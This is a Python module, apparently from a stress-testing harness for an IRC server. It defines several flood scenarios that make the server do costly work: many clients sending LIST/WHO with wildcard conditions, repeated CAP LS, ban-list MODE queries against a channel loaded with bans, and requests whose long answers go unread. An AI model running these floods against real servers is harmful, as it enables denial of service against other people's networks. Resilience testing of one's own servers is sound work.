"""Attacks by questions whose answers cost much: LIST, WHO, MODE, CAP LS, and such as nobody reads."""

from __future__ import annotations

from .flood import Attacker, Flood, Together
from .table import attack, irc, lobby, nowhere
from .target import Target

ROOMS_OF_EACH = 40
MAKERS = 50


def _makers(target: Target) -> Flood:
    """2,000 rooms, by 50 people who do nothing further."""

    def rooms(number: int) -> list[str]:
        return [f"#some-room-{number}-{k}" for k in range(ROOMS_OF_EACH)]

    return irc(target.port, MAKERS, "mk", rooms, None, proxied=False)


@attack("list", "100 people ask for 2,000 rooms, everybody and who is in rooms in a loop", "messages")
def _list(target: Target) -> Attacker:
    asking = b"LIST\r\nWHO *\r\nNAMES #h0,#h1,#h2,#h3\r\n"
    return Together(_makers(target), irc(target.proxied, 100, "li", nowhere, lambda i, k: asking))


@attack("list-conditions", "the same with 20 conditions that take long to look at", "messages")
def _conditions(target: Target) -> Attacker:
    conditions = ",".join(["*o*o*o*o*o*b*", "!*o*o*o*o*c*"] * 10).encode()
    asking = b"LIST %s\r\nWHO *o*o*o*o*o*b\r\n" % conditions
    return Together(_makers(target), irc(target.proxied, 100, "lj", nowhere, lambda i, k: asking))


@attack("capabilities", "160 connections of 10 addresses ask for the capabilities without a name", "messages")
def _capabilities(target: Target) -> Attacker:
    return Flood(target.proxied, 160, lambda i: b"CAP LS 302\r\n", lambda i, k: b"CAP LS 302\r\n" * 20)


@attack("bans", "160 people of 10 addresses ask who is banned from a room that has 100 bans", "messages")
def _bans(target: Target) -> Attacker:
    def masks(number: int) -> bytes:
        lines = [
            f"MODE #bans +{'b' * 10} " + " ".join(f"{'m' * 20}{group}{k}!*@*" for k in range(10))
            for group in range(10)
        ]
        return "".join(
            f"{line}\r\n" for line in ("NICK own", "USER u 0 * :r", "JOIN #bans", *lines, "PING settled")
        ).encode()

    owner = Flood(target.port, 1, masks, proxied=False, ready=b"settled")
    asking = irc(target.proxied, 160, "fm", lambda i: ["#bans"], lambda i, k: b"MODE #bans b\r\n" * 10)
    return Together(owner, asking)


@attack("unread-answers", "200 people ask for long answers and read none", "messages")
def _unread(target: Target) -> Attacker:
    asking = b"HELP\r\nMODE #h0 b\r\nCAP LS 302\r\n"
    return irc(target.proxied, 200, "ne", lobby, lambda i, k: asking, read=False, buffer=4096)
